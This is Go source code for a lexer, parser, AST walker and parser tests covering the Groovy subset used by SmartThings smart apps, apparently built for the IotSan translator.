func (e *UnaryExpr) NodePos() Pos { return e.Pos }

// IncDecExpr is x++ / x-- / ++x / --x used as a statement.
type IncDecExpr struct {
	Pos    Pos
	Op     Kind // Inc or Dec
	X      Expr
	Prefix bool
}

func (e *IncDecExpr) NodePos() Pos { return e.Pos }

// TernaryExpr is `cond ? then : else`.
type TernaryExpr struct {
	Pos        Pos
	Cond       Expr
	Then, Else Expr
}

func (e *TernaryExpr) NodePos() Pos { return e.Pos }

// ElvisExpr is `x ?: y`.
type ElvisExpr struct {
	Pos  Pos
	X, Y Expr
}

func (e *ElvisExpr) NodePos() Pos { return e.Pos }

// CastExpr is `x as Type`.
type CastExpr struct {
	Pos  Pos
	X    Expr
	Type string
}

func (e *CastExpr) NodePos() Pos { return e.Pos }

// InstanceofExpr is `x instanceof Type`.
type InstanceofExpr struct {
	Pos  Pos
	X    Expr
	Type string
}

func (e *InstanceofExpr) NodePos() Pos { return e.Pos }

// NewExpr is `new Type(args)`.
type NewExpr struct {
	Pos  Pos
	Type string
	Args []Expr
}

func (e *NewExpr) NodePos() Pos { return e.Pos }

// ---- Walking ----

// Walk calls fn for n and every node below it, depth-first, pre-order.
// If fn returns false the node's children are skipped.
func Walk(n Node, fn func(Node) bool) {
	if n == nil || !fn(n) {
		return
	}
	switch x := n.(type) {
	case *Script:
		for _, d := range x.Decls {
			Walk(d, fn)
		}
	case *MethodDecl:
		for _, p := range x.Params {
			if p.Default != nil {
				Walk(p.Default, fn)
			}
		}
		Walk(x.Body, fn)
	case *Block:
		for _, s := range x.Stmts {
			Walk(s, fn)
		}
	case *VarDeclStmt:
		if x.Init != nil {
			Walk(x.Init, fn)
		}
	case *ExprStmt:
		Walk(x.X, fn)
	case *AssignStmt:
		Walk(x.LHS, fn)
		Walk(x.RHS, fn)
	case *IfStmt:
		Walk(x.Cond, fn)
		Walk(x.Then, fn)
		if x.Else != nil {
			Walk(x.Else, fn)
		}
	case *WhileStmt:
		Walk(x.Cond, fn)
		Walk(x.Body, fn)
	case *ForInStmt:
		Walk(x.Iter, fn)
		Walk(x.Body, fn)
	case *ForCStmt:
		if x.Init != nil {
			Walk(x.Init, fn)
		}
		if x.Cond != nil {
			Walk(x.Cond, fn)
		}
		if x.Post != nil {
			Walk(x.Post, fn)
		}
		Walk(x.Body, fn)
	case *ReturnStmt:
		if x.X != nil {
			Walk(x.X, fn)
		}
	case *SwitchStmt:
		Walk(x.Subject, fn)
		for _, c := range x.Cases {
			for _, v := range c.Values {
				Walk(v, fn)
			}
			for _, s := range c.Body {
				Walk(s, fn)
			}
		}
		for _, s := range x.Default {
			Walk(s, fn)
		}
	case *TryStmt:
		Walk(x.Body, fn)
		for _, c := range x.Catches {
			Walk(c.Body, fn)
		}
		if x.Finally != nil {
			Walk(x.Finally, fn)
		}
	case *ThrowStmt:
		Walk(x.X, fn)
	case *GStringLit:
		for _, e := range x.Exprs {
			Walk(e, fn)
		}
	case *ListLit:
		for _, e := range x.Elems {
			Walk(e, fn)
		}
	case *MapLit:
		for _, en := range x.Entries {
			if en.KeyX != nil {
				Walk(en.KeyX, fn)
			}
			Walk(en.Value, fn)
		}
	case *RangeLit:
		Walk(x.Lo, fn)
		Walk(x.Hi, fn)
	case *PropertyExpr:
		Walk(x.Recv, fn)
	case *IndexExpr:
		Walk(x.Recv, fn)
		Walk(x.Index, fn)
	case *CallExpr:
		if x.Recv != nil {
			Walk(x.Recv, fn)
		}
		for _, a := range x.Args {
			Walk(a, fn)
		}
		for _, na := range x.NamedArgs {
			if na.KeyX != nil {
				Walk(na.KeyX, fn)
			}
			Walk(na.Value, fn)
		}
		if x.Closure != nil {
			Walk(x.Closure, fn)
		}
	case *ClosureExpr:
		Walk(x.Body, fn)
	case *BinaryExpr:
		Walk(x.L, fn)
		Walk(x.R, fn)
	case *UnaryExpr:
		Walk(x.X, fn)
	case *IncDecExpr:
		Walk(x.X, fn)
	case *TernaryExpr:
		Walk(x.Cond, fn)
		Walk(x.Then, fn)
		Walk(x.Else, fn)
	case *ElvisExpr:
		Walk(x.X, fn)
		Walk(x.Y, fn)
	case *CastExpr:
		Walk(x.X, fn)
	case *InstanceofExpr:
		Walk(x.X, fn)
	case *NewExpr:
		for _, a := range x.Args {
			Walk(a, fn)
		}
	}
}
