package groovy

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf8"
)

// A LexError reports a lexical error with its source position.
type LexError struct {
	Pos Pos
	Msg string
}

func (e *LexError) Error() string { return fmt.Sprintf("%s: %s", e.Pos, e.Msg) }

// Lexer scans Groovy source into tokens. Like Groovy (and Go), statement
// separators are inserted at newlines when the previous token could end a
// statement and the lexer is not inside parentheses or brackets.
type Lexer struct {
	src      string
	off      int // byte offset of next rune
	line     int
	col      int
	depth    int  // ( and [ nesting; newlines inside are insignificant
	last     Kind // previous significant token kind, for SEMI insertion
	sawSpace bool // whitespace/comment was skipped before the current token
}

// NewLexer returns a Lexer over src.
func NewLexer(src string) *Lexer {
	return &Lexer{src: src, line: 1, col: 1}
}

// Tokenize scans all of src, returning the token stream terminated by EOF.
func Tokenize(src string) ([]Token, error) {
	lx := NewLexer(src)
	var toks []Token
	for {
		t, err := lx.Next()
		if err != nil {
			return nil, err
		}
		toks = append(toks, t)
		if t.Kind == EOF {
			return toks, nil
		}
	}
}

func (lx *Lexer) pos() Pos { return Pos{Line: lx.line, Col: lx.col} }

func (lx *Lexer) peekRune() rune {
	if lx.off >= len(lx.src) {
		return -1
	}
	r, _ := utf8.DecodeRuneInString(lx.src[lx.off:])
	return r
}

func (lx *Lexer) peekAt(n int) byte {
	if lx.off+n >= len(lx.src) {
		return 0
	}
	return lx.src[lx.off+n]
}

func (lx *Lexer) nextRune() rune {
	if lx.off >= len(lx.src) {
		return -1
	}
	r, w := utf8.DecodeRuneInString(lx.src[lx.off:])
	lx.off += w
	if r == '\n' {
		lx.line++
		lx.col = 1
	} else {
		lx.col++
	}
	return r
}

// canEndStatement reports whether a token kind may terminate a statement,
// enabling newline→SEMI insertion.
func canEndStatement(k Kind) bool {
	switch k {
	case IDENT, INT, NUMBER, STRING, GSTRING, RParen, RBrack, RBrace,
		KwTrue, KwFalse, KwNull, KwBreak, KwContinue, KwReturn, Inc, Dec:
		return true
	}
	return false
}

// Next returns the next token.
func (lx *Lexer) Next() (Token, error) {
	lx.sawSpace = false
	t, err := lx.scan()
	if err != nil {
		return Token{}, err
	}
	t.SpaceBefore = lx.sawSpace
	return t, nil
}

func (lx *Lexer) scan() (Token, error) {
	for {
		// Skip horizontal whitespace; handle newlines for SEMI insertion.
		for {
			r := lx.peekRune()
			if r == ' ' || r == '\t' || r == '\r' {
				lx.sawSpace = true
				lx.nextRune()
				continue
			}
			if r == '\\' && lx.peekAt(1) == '\n' { // line continuation
				lx.sawSpace = true
				lx.nextRune()
				lx.nextRune()
				continue
			}
			if r == '\n' {
				lx.sawSpace = true
				pos := lx.pos()
				lx.nextRune()
				if lx.depth == 0 && canEndStatement(lx.last) {
					lx.last = SEMI
					return Token{Kind: SEMI, Pos: pos}, nil
				}
				continue
			}
			break
		}

		pos := lx.pos()
		r := lx.peekRune()
		if r < 0 {
			return Token{Kind: EOF, Pos: pos}, nil
		}

		// Comments.
		if r == '/' && lx.peekAt(1) == '/' {
			lx.sawSpace = true
			for lx.peekRune() >= 0 && lx.peekRune() != '\n' {
				lx.nextRune()
			}
			continue
		}
		if r == '/' && lx.peekAt(1) == '*' {
			lx.sawSpace = true
			lx.nextRune()
			lx.nextRune()
			for {
				c := lx.nextRune()
				if c < 0 {
					return Token{}, &LexError{pos, "unterminated block comment"}
				}
				if c == '*' && lx.peekRune() == '/' {
					lx.nextRune()
					break
				}
			}
			continue
		}

		switch {
		case isIdentStart(r):
			return lx.lexIdent(pos), nil
		case unicode.IsDigit(r):
			return lx.lexNumber(pos)
		case r == '\'':
			return lx.lexSingleQuoted(pos)
		case r == '"':
			return lx.lexDoubleQuoted(pos)
		}
		return lx.lexOperator(pos)
	}
}

func isIdentStart(r rune) bool {
	return r == '_' || r == '$' || unicode.IsLetter(r)
}

func isIdentPart(r rune) bool {
	return r == '_' || r == '$' || unicode.IsLetter(r) || unicode.IsDigit(r)
}

func (lx *Lexer) lexIdent(pos Pos) Token {
	start := lx.off
	for isIdentPart(lx.peekRune()) {
		lx.nextRune()
	}
	text := lx.src[start:lx.off]
	if k, ok := keywords[text]; ok {
		lx.last = k
		return Token{Kind: k, Pos: pos, Text: text}
	}
	lx.last = IDENT
	return Token{Kind: IDENT, Pos: pos, Text: text}
}

func (lx *Lexer) lexNumber(pos Pos) (Token, error) {
	start := lx.off
	kind := INT
	for unicode.IsDigit(lx.peekRune()) {
		lx.nextRune()
	}
	// Fractional part — but not the range operator `1..5`.
	if lx.peekRune() == '.' && lx.peekAt(1) != '.' && unicode.IsDigit(rune(lx.peekAt(1))) {
		kind = NUMBER
		lx.nextRune()
		for unicode.IsDigit(lx.peekRune()) {
			lx.nextRune()
		}
	}
	// Groovy numeric suffixes (G, L, I, D, F) — accepted and ignored.
	if r := lx.peekRune(); r == 'G' || r == 'L' || r == 'I' || r == 'D' || r == 'F' ||
		r == 'g' || r == 'l' || r == 'i' || r == 'd' || r == 'f' {
		if r == 'D' || r == 'F' || r == 'd' || r == 'f' {
			kind = NUMBER
		}
		lx.nextRune()
		lx.last = kind
		return Token{Kind: kind, Pos: pos, Text: strings.TrimRight(lx.src[start:lx.off], "GLIDFglidf")}, nil
	}
	lx.last = kind
	return Token{Kind: kind, Pos: pos, Text: lx.src[start:lx.off]}, nil
}

func (lx *Lexer) lexEscape() (rune, error) {
	c := lx.nextRune()
	switch c {
	case 'n':
		return '\n', nil
	case 't':
		return '\t', nil
	case 'r':
		return '\r', nil
	case '\\':
		return '\\', nil
	case '\'':
		return '\'', nil
	case '"':
		return '"', nil
	case '$':
		return '$', nil
	case '0':
		return 0, nil
	default:
		if c < 0 {
			return 0, &LexError{lx.pos(), "unterminated escape"}
		}
		return c, nil
	}
}

func (lx *Lexer) lexSingleQuoted(pos Pos) (Token, error) {
	lx.nextRune() // opening quote
	var sb strings.Builder
	for {
		c := lx.nextRune()
		switch {
		case c < 0 || c == '\n':
			return Token{}, &LexError{pos, "unterminated string literal"}
		case c == '\\':
			e, err := lx.lexEscape()
			if err != nil {
				return Token{}, err
			}
			sb.WriteRune(e)
		case c == '\'':
			lx.last = STRING
			return Token{Kind: STRING, Pos: pos, Text: sb.String()}, nil
		default:
			sb.WriteRune(c)
		}
	}
}

// lexDoubleQuoted scans a double-quoted string. If it contains no
// interpolation it is returned as a plain STRING; otherwise as a GSTRING
// whose parts alternate literal text and embedded expression source.
func (lx *Lexer) lexDoubleQuoted(pos Pos) (Token, error) {
	lx.nextRune() // opening quote
	var parts []StringPart
	var sb strings.Builder
	flush := func() {
		if sb.Len() > 0 {
			parts = append(parts, StringPart{Lit: sb.String(), Pos: pos})
			sb.Reset()
		}
	}
	for {
		c := lx.nextRune()
		switch {
		case c < 0 || c == '\n':
			return Token{}, &LexError{pos, "unterminated string literal"}
		case c == '\\':
			e, err := lx.lexEscape()
			if err != nil {
				return Token{}, err
			}
			sb.WriteRune(e)
		case c == '"':
			flush()
			if len(parts) == 0 {
				lx.last = STRING
				return Token{Kind: STRING, Pos: pos, Text: ""}, nil
			}
			if len(parts) == 1 && parts[0].Expr == "" {
				lx.last = STRING
				return Token{Kind: STRING, Pos: pos, Text: parts[0].Lit}, nil
			}
			lx.last = GSTRING
			return Token{Kind: GSTRING, Pos: pos, Parts: parts}, nil
		case c == '$' && lx.peekRune() == '{':
			flush()
			epos := lx.pos()
			lx.nextRune() // '{'
			depth := 1
			start := lx.off
			for depth > 0 {
				e := lx.nextRune()
				if e < 0 {
					return Token{}, &LexError{pos, "unterminated ${...} interpolation"}
				}
				switch e {
				case '{':
					depth++
				case '}':
					depth--
				}
			}
			parts = append(parts, StringPart{Expr: lx.src[start : lx.off-1], Pos: epos})
		case c == '$' && isIdentStart(lx.peekRune()):
			flush()
			epos := lx.pos()
			start := lx.off
			for isIdentPart(lx.peekRune()) {
				lx.nextRune()
			}
			// Allow dotted references: $evt.value
			for lx.peekRune() == '.' && isIdentStart(rune(lx.peekAt(1))) {
				lx.nextRune()
				for isIdentPart(lx.peekRune()) {
					lx.nextRune()
				}
			}
			parts = append(parts, StringPart{Expr: lx.src[start:lx.off], Pos: epos})
		default:
			sb.WriteRune(c)
		}
	}
}

func (lx *Lexer) lexOperator(pos Pos) (Token, error) {
	emit := func(k Kind, n int) (Token, error) {
		for i := 0; i < n; i++ {
			lx.nextRune()
		}
		switch k {
		case LParen, LBrack:
			lx.depth++
		case RParen, RBrack:
			if lx.depth > 0 {
				lx.depth--
			}
		}
		lx.last = k
		return Token{Kind: k, Pos: pos}, nil
	}
	c := lx.peekRune()
	c1 := rune(lx.peekAt(1))
	c2 := rune(lx.peekAt(2))
	switch c {
	case '(':
		return emit(LParen, 1)
	case ')':
		return emit(RParen, 1)
	case '[':
		return emit(LBrack, 1)
	case ']':
		return emit(RBrack, 1)
	case '{':
		return emit(LBrace, 1)
	case '}':
		return emit(RBrace, 1)
	case ',':
		return emit(Comma, 1)
	case ';':
		return emit(SEMI, 1)
	case ':':
		return emit(Colon, 1)
	case '@':
		return emit(At, 1)
	case '.':
		if c1 == '.' {
			return emit(Range, 2)
		}
		return emit(Dot, 1)
	case '?':
		switch c1 {
		case '.':
			return emit(SafeDot, 2)
		case ':':
			return emit(Elvis, 2)
		}
		return emit(Question, 1)
	case '-':
		switch c1 {
		case '>':
			return emit(Arrow, 2)
		case '=':
			return emit(MinusAssign, 2)
		case '-':
			return emit(Dec, 2)
		}
		return emit(Minus, 1)
	case '+':
		switch c1 {
		case '=':
			return emit(PlusAssign, 2)
		case '+':
			return emit(Inc, 2)
		}
		return emit(Plus, 1)
	case '*':
		switch c1 {
		case '.':
			return emit(SpreadDot, 2)
		case '=':
			return emit(StarAssign, 2)
		case '*':
			return emit(StarStar, 2)
		}
		return emit(Star, 1)
	case '/':
		if c1 == '=' {
			return emit(SlashAssign, 2)
		}
		return emit(Slash, 1)
	case '%':
		return emit(Percent, 1)
	case '=':
		if c1 == '=' {
			return emit(Eq, 2)
		}
		return emit(Assign, 1)
	case '!':
		if c1 == '=' {
			return emit(Neq, 2)
		}
		return emit(Not, 1)
	case '<':
		if c1 == '=' && c2 == '>' {
			return emit(Compare, 3)
		}
		if c1 == '=' {
			return emit(Le, 2)
		}
		return emit(Lt, 1)
	case '>':
		if c1 == '=' {
			return emit(Ge, 2)
		}
		return emit(Gt, 1)
	case '&':
		if c1 == '&' {
			return emit(AndAnd, 2)
		}
	case '|':
		if c1 == '|' {
			return emit(OrOr, 2)
		}
	}
	return Token{}, &LexError{pos, fmt.Sprintf("unexpected character %q", c)}
}
