package groovy

import (
	"strings"
	"testing"
)

func parse(t *testing.T, src string) *Script {
	t.Helper()
	s, err := ParseScript(src)
	if err != nil {
		t.Fatalf("ParseScript: %v\nsource:\n%s", err, src)
	}
	return s
}

func parseExpr(t *testing.T, src string) Expr {
	t.Helper()
	e, err := ParseExpression(src)
	if err != nil {
		t.Fatalf("ParseExpression(%q): %v", src, err)
	}
	return e
}

func TestParsePrecedence(t *testing.T) {
	tests := []struct{ src, want string }{
		{`a + b * c`, `a + b * c`},
		{`(a + b) * c`, `a + b * c`}, // shape checked below
		{`a && b || c`, `a && b || c`},
		{`!a && b`, `!a && b`},
		{`a == b ? c : d`, `a == b ? c : d`},
		{`x ?: y`, `x ?: y`},
		{`a.b.c`, `a.b.c`},
		{`sw.currentSwitch == "on"`, `sw.currentSwitch == "on"`},
	}
	for _, tt := range tests {
		e := parseExpr(t, tt.src)
		if got := ExprString(e); got != tt.want {
			t.Errorf("ExprString(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
	// Grouping changes the tree shape even if the rendering looks similar.
	e := parseExpr(t, `(a + b) * c`)
	b, ok := e.(*BinaryExpr)
	if !ok || b.Op != Star {
		t.Fatalf("(a+b)*c: top op = %v, want *", b.Op)
	}
	if _, ok := b.L.(*BinaryExpr); !ok {
		t.Error("(a+b)*c: left operand should be the parenthesised sum")
	}
}

func TestParseMethodDecl(t *testing.T) {
	s := parse(t, `
def installed() {
	initialize()
}

private STSwitch[] onSwitches() {
	switches + onSwitches
}

void updated(evt) { unsubscribe() }
`)
	ms := s.Methods()
	if len(ms) != 3 {
		t.Fatalf("got %d methods, want 3", len(ms))
	}
	if m := ms["onSwitches"]; m == nil || m.Type != "STSwitch[]" || len(m.Modifiers) != 1 {
		t.Errorf("onSwitches: %+v", m)
	}
	if m := ms["updated"]; m == nil || len(m.Params) != 1 || m.Params[0].Name != "evt" {
		t.Errorf("updated: %+v", m)
	}
}

func TestParseCommandSyntax(t *testing.T) {
	s := parse(t, `
def foo() {
	log.debug "turning on"
	sendSms phone, "alert"
	input "sensor", "capability.temperatureMeasurement", title: "Sensor", required: false
}
`)
	body := s.Methods()["foo"].Body.Stmts
	if len(body) != 3 {
		t.Fatalf("got %d stmts, want 3", len(body))
	}
	c0 := body[0].(*ExprStmt).X.(*CallExpr)
	if c0.Name != "debug" || c0.Recv == nil || len(c0.Args) != 1 || !c0.NoParens {
		t.Errorf("log.debug: %s", ExprString(c0))
	}
	c1 := body[1].(*ExprStmt).X.(*CallExpr)
	if c1.Name != "sendSms" || len(c1.Args) != 2 {
		t.Errorf("sendSms: %s", ExprString(c1))
	}
	c2 := body[2].(*ExprStmt).X.(*CallExpr)
	if c2.Name != "input" || len(c2.Args) != 2 || len(c2.NamedArgs) != 2 {
		t.Errorf("input: %s", ExprString(c2))
	}
	if c2.NamedArgs[0].Key != "title" || c2.NamedArgs[1].Key != "required" {
		t.Errorf("input named args: %+v", c2.NamedArgs)
	}
}

func TestParseTrailingClosure(t *testing.T) {
	s := parse(t, `
preferences {
	section("Choose") {
		input "switches", "capability.switch", multiple: true
	}
}
`)
	calls := s.TopLevelCalls()
	if len(calls) != 1 || calls[0].Name != "preferences" || calls[0].Closure == nil {
		t.Fatalf("preferences call: %+v", calls)
	}
	sec := calls[0].Closure.Body.Stmts[0].(*ExprStmt).X.(*CallExpr)
	if sec.Name != "section" || len(sec.Args) != 1 || sec.Closure == nil {
		t.Fatalf("section call: %s", ExprString(sec))
	}
}

func TestParseEachClosure(t *testing.T) {
	s := parse(t, `
def handler(evt) {
	switches.each { it.on() }
	switches.each { sw -> sw.off() }
	def found = people.findAll { person -> person.currentPresence == "present" }
}
`)
	body := s.Methods()["handler"].Body.Stmts
	c0 := body[0].(*ExprStmt).X.(*CallExpr)
	if c0.Name != "each" || c0.Closure == nil || !c0.Closure.Implicit {
		t.Errorf("each implicit: %s", ExprString(c0))
	}
	c1 := body[1].(*ExprStmt).X.(*CallExpr)
	if c1.Closure == nil || c1.Closure.Implicit || c1.Closure.Params[0].Name != "sw" {
		t.Errorf("each explicit: %s", ExprString(c1))
	}
	vd := body[2].(*VarDeclStmt)
	c2 := vd.Init.(*CallExpr)
	if c2.Name != "findAll" || c2.Closure == nil || c2.Closure.Params[0].Name != "person" {
		t.Errorf("findAll: %s", ExprString(c2))
	}
}

func TestParseControlFlow(t *testing.T) {
	s := parse(t, `
def handler(evt) {
	if (evt.value == "open") {
		sw.on()
	} else if (evt.value == "closed") {
		sw.off()
	} else {
		log.debug "?"
	}
	while (i < 10) { i = i + 1 }
	for (x in switches) { x.on() }
	for (int j = 0; j < 3; j++) { count = count + j }
	switch (mode) {
	case "heat":
		heater.on()
		break
	case "cool":
	case "auto":
		ac.on()
		break
	default:
		log.debug "none"
	}
}
`)
	body := s.Methods()["handler"].Body.Stmts
	if len(body) != 5 {
		t.Fatalf("got %d stmts, want 5", len(body))
	}
	ifs := body[0].(*IfStmt)
	if _, ok := ifs.Else.(*IfStmt); !ok {
		t.Error("else-if chain not parsed as nested IfStmt")
	}
	if _, ok := body[1].(*WhileStmt); !ok {
		t.Errorf("stmt 1: %T", body[1])
	}
	fi := body[2].(*ForInStmt)
	if fi.Var != "x" {
		t.Errorf("for-in var = %q", fi.Var)
	}
	if _, ok := body[3].(*ForCStmt); !ok {
		t.Errorf("stmt 3: %T", body[3])
	}
	sw := body[4].(*SwitchStmt)
	if len(sw.Cases) != 2 || len(sw.Cases[1].Values) != 2 || sw.Default == nil {
		t.Errorf("switch: %d cases, default=%v", len(sw.Cases), sw.Default != nil)
	}
}

func TestParseListsAndMaps(t *testing.T) {
	e := parseExpr(t, `[1, 2, 3]`)
	if l, ok := e.(*ListLit); !ok || len(l.Elems) != 3 {
		t.Errorf("list: %s", ExprString(e))
	}
	e = parseExpr(t, `[:]`)
	if m, ok := e.(*MapLit); !ok || len(m.Entries) != 0 {
		t.Errorf("empty map: %s", ExprString(e))
	}
	e = parseExpr(t, `[name: "x", value: 3]`)
	m, ok := e.(*MapLit)
	if !ok || len(m.Entries) != 2 || m.Entries[0].Key != "name" {
		t.Errorf("map: %s", ExprString(e))
	}
	e = parseExpr(t, `[]`)
	if l, ok := e.(*ListLit); !ok || len(l.Elems) != 0 {
		t.Errorf("empty list: %s", ExprString(e))
	}
}

func TestParseGStringInterpolation(t *testing.T) {
	e := parseExpr(t, `"temp is ${sensor.currentTemperature} deg"`)
	g, ok := e.(*GStringLit)
	if !ok || len(g.Exprs) != 1 {
		t.Fatalf("gstring: %s", ExprString(e))
	}
	if _, ok := g.Exprs[0].(*PropertyExpr); !ok {
		t.Errorf("interpolation expr: %T", g.Exprs[0])
	}
}

func TestParseFigure1Preferences(t *testing.T) {
	// The Virtual Thermostat preferences block from the paper's Figure 1.
	src := `
preferences {
	section("Choose a temperature sensor ... ") {
		input "sensor", "capability.temperatureMeasurement", title: "Sensor"
	}
	section("Select the heater or air conditioner outlet(s)... ") {
		input "outlets", "capability.switch", title: "Outlets", multiple: true
	}
	section("Set the desired temperature ...") {
		input "setpoint", "decimal", title: "Set Temp"
	}
	section("When there's been movement from (optional)") {
		input "motion", "capability.motionSensor", title: "Motion", required: false
	}
	section("Within this number of minutes ...") {
		input "minutes", "number", title: "Minutes", required: false
	}
	section("But never go below (or above if A/C) this value with or without motion ...") {
		input "emergencySetpoint", "decimal", title: "Emer Temp", required: false
	}
	section("Select 'heat' for a heater and 'cool' for an air conditioner ...") {
		input "mode", "enum", title: "Heating or cooling?", options: ["heat", "cool"]
	}
}
`
	s := parse(t, src)
	prefs := s.TopLevelCalls()[0]
	if prefs.Name != "preferences" {
		t.Fatalf("top call = %q", prefs.Name)
	}
	sections := prefs.Closure.Body.Stmts
	if len(sections) != 7 {
		t.Fatalf("got %d sections, want 7", len(sections))
	}
	last := sections[6].(*ExprStmt).X.(*CallExpr)
	in := last.Closure.Body.Stmts[0].(*ExprStmt).X.(*CallExpr)
	if in.Name != "input" {
		t.Fatalf("inner call = %q", in.Name)
	}
	var opts *ListLit
	for _, na := range in.NamedArgs {
		if na.Key == "options" {
			opts = na.Value.(*ListLit)
		}
	}
	if opts == nil || len(opts.Elems) != 2 {
		t.Fatalf("options list missing: %s", ExprString(in))
	}
}

func TestParseCompleteApp(t *testing.T) {
	src := `
/**
 *  Brighten Dark Places
 */
definition(
	name: "Brighten Dark Places",
	namespace: "smartthings",
	author: "SmartThings",
	description: "Turn your lights on when an open/close sensor opens and the space is dark.",
	category: "Convenience"
)

preferences {
	section("When the door opens...") {
		input "contact1", "capability.contactSensor", title: "Where?"
	}
	section("And it's dark...") {
		input "luminance1", "capability.illuminanceMeasurement", title: "Where?"
	}
	section("Turn on a light...") {
		input "switch1", "capability.switch", multiple: true
	}
}

def installed() {
	subscribe(contact1, "contact.open", contactOpenHandler)
}

def updated() {
	unsubscribe()
	subscribe(contact1, "contact.open", contactOpenHandler)
}

def contactOpenHandler(evt) {
	def lightSensorState = luminance1.currentIlluminance
	log.debug "SENSOR = $lightSensorState"
	if (lightSensorState != null && lightSensorState < 10) {
		log.trace "light.on() ... [luminance: ${lightSensorState}]"
		switch1.on()
	}
}
`
	s := parse(t, src)
	if len(s.TopLevelCalls()) != 2 {
		t.Errorf("top-level calls = %d, want 2", len(s.TopLevelCalls()))
	}
	ms := s.Methods()
	for _, name := range []string{"installed", "updated", "contactOpenHandler"} {
		if ms[name] == nil {
			t.Errorf("missing method %q", name)
		}
	}
	def := s.TopLevelCalls()[0]
	if def.Name != "definition" || len(def.NamedArgs) != 5 {
		t.Errorf("definition: %s", ExprString(def))
	}
	h := ms["contactOpenHandler"].Body.Stmts
	ifs, ok := h[2].(*IfStmt)
	if !ok {
		t.Fatalf("stmt 2: %T", h[2])
	}
	cond := ifs.Cond.(*BinaryExpr)
	if cond.Op != AndAnd {
		t.Errorf("cond op = %v", cond.Op)
	}
}

func TestParseTernaryAndElvisInApp(t *testing.T) {
	s := parse(t, `
def helper() {
	def t = settings.threshold ?: 70
	def msg = open ? "opened" : "closed"
	return msg
}
`)
	body := s.Methods()["helper"].Body.Stmts
	if _, ok := body[0].(*VarDeclStmt).Init.(*ElvisExpr); !ok {
		t.Errorf("elvis: %T", body[0].(*VarDeclStmt).Init)
	}
	if _, ok := body[1].(*VarDeclStmt).Init.(*TernaryExpr); !ok {
		t.Errorf("ternary: %T", body[1].(*VarDeclStmt).Init)
	}
}

func TestParseAssignments(t *testing.T) {
	s := parse(t, `
def f() {
	state.count = 0
	state.count += 2
	x = x * 2
	arr[0] = 5
	location.mode = "Away"
}
`)
	body := s.Methods()["f"].Body.Stmts
	if len(body) != 5 {
		t.Fatalf("stmts = %d", len(body))
	}
	a1 := body[1].(*AssignStmt)
	if a1.Op != PlusAssign {
		t.Errorf("op = %v", a1.Op)
	}
	a3 := body[3].(*AssignStmt)
	if _, ok := a3.LHS.(*IndexExpr); !ok {
		t.Errorf("lhs: %T", a3.LHS)
	}
}

func TestParseTryCatch(t *testing.T) {
	s := parse(t, `
def risky() {
	try {
		httpPost("http://example.com", "data")
	} catch (e) {
		log.error "post failed: $e"
	} finally {
		state.done = true
	}
}
`)
	ts, ok := s.Methods()["risky"].Body.Stmts[0].(*TryStmt)
	if !ok {
		t.Fatalf("not a try: %T", s.Methods()["risky"].Body.Stmts[0])
	}
	if len(ts.Catches) != 1 || ts.Finally == nil {
		t.Errorf("catches=%d finally=%v", len(ts.Catches), ts.Finally != nil)
	}
}

func TestParseImportsSkipped(t *testing.T) {
	s := parse(t, `
import groovy.time.TimeCategory
import java.text.SimpleDateFormat

def f() { return 1 }
`)
	if len(s.Decls) != 1 {
		t.Errorf("decls = %d, want 1 (imports dropped)", len(s.Decls))
	}
}

func TestParseSpreadCall(t *testing.T) {
	s := parse(t, `def f() { switches*.on() }`)
	c := s.Methods()["f"].Body.Stmts[0].(*ExprStmt).X.(*CallExpr)
	if !c.Spread || c.Name != "on" {
		t.Errorf("spread call: %s", ExprString(c))
	}
}

func TestParseErrorsHavePositions(t *testing.T) {
	_, err := ParseScript("def f() {\n  if (x {\n}")
	if err == nil {
		t.Fatal("expected parse error")
	}
	var pe *ParseError
	if !asParseError(err, &pe) {
		t.Fatalf("error type: %T", err)
	}
	if pe.Pos.Line < 2 {
		t.Errorf("error position %v should be on line >= 2", pe.Pos)
	}
	if !strings.Contains(err.Error(), ":") {
		t.Errorf("error should contain position: %q", err)
	}
}

func asParseError(err error, target **ParseError) bool {
	pe, ok := err.(*ParseError)
	if ok {
		*target = pe
	}
	return ok
}

func TestParseNewDate(t *testing.T) {
	e := parseExpr(t, `new Date(now() + 1000)`)
	n, ok := e.(*NewExpr)
	if !ok || n.Type != "Date" || len(n.Args) != 1 {
		t.Errorf("new Date: %s", ExprString(e))
	}
}

func TestParseIndexVsListArg(t *testing.T) {
	// foo[0] is indexing; foo [0] is a command call with a list argument.
	s := parse(t, "def f() { a = foo[0] }")
	as := s.Methods()["f"].Body.Stmts[0].(*AssignStmt)
	if _, ok := as.RHS.(*IndexExpr); !ok {
		t.Errorf("foo[0]: %T", as.RHS)
	}
	s = parse(t, "def f() { runIn [60, 120] }")
	es := s.Methods()["f"].Body.Stmts[0].(*ExprStmt)
	c, ok := es.X.(*CallExpr)
	if !ok || len(c.Args) != 1 {
		t.Fatalf("runIn [list]: %s", ExprString(es.X))
	}
	if _, ok := c.Args[0].(*ListLit); !ok {
		t.Errorf("arg: %T", c.Args[0])
	}
}

func TestWalkVisitsAllSubscribes(t *testing.T) {
	s := parse(t, `
def installed() {
	subscribe(motion1, "motion.active", onMotion)
	if (contact1) {
		subscribe(contact1, "contact", onContact)
	}
	devices.each { subscribe(it, "switch.on", onSwitch) }
}
`)
	count := 0
	Walk(s, func(n Node) bool {
		if c, ok := n.(*CallExpr); ok && c.Name == "subscribe" {
			count++
		}
		return true
	})
	if count != 3 {
		t.Errorf("found %d subscribe calls, want 3", count)
	}
}
