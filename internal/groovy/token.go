// Package groovy implements a lexer and parser for the subset of the
// Groovy language used by Samsung SmartThings smart apps.
//
// SmartThings apps are Groovy scripts: a sequence of top-level method
// declarations (event handlers and helpers) and top-level DSL calls
// (definition, preferences, mappings). The subset covers the constructs
// the IotSan paper's translator handles (§6): dynamic typing, closures,
// GString interpolation, list/map literals, builder-style calls without
// parentheses, safe navigation, the Elvis operator, and Groovy's
// collection utilities.
package groovy

import "fmt"

// Pos is a source position, 1-based.
type Pos struct {
	Line int
	Col  int
}

func (p Pos) String() string { return fmt.Sprintf("%d:%d", p.Line, p.Col) }

// Kind identifies the lexical class of a token.
type Kind int

// Token kinds.
const (
	EOF  Kind = iota
	SEMI      // ';' or inserted at newline
	IDENT
	INT
	NUMBER // decimal literal
	STRING // single-quoted, no interpolation
	GSTRING

	// Keywords.
	KwDef
	KwIf
	KwElse
	KwWhile
	KwFor
	KwIn
	KwReturn
	KwTrue
	KwFalse
	KwNull
	KwSwitch
	KwCase
	KwDefault
	KwBreak
	KwContinue
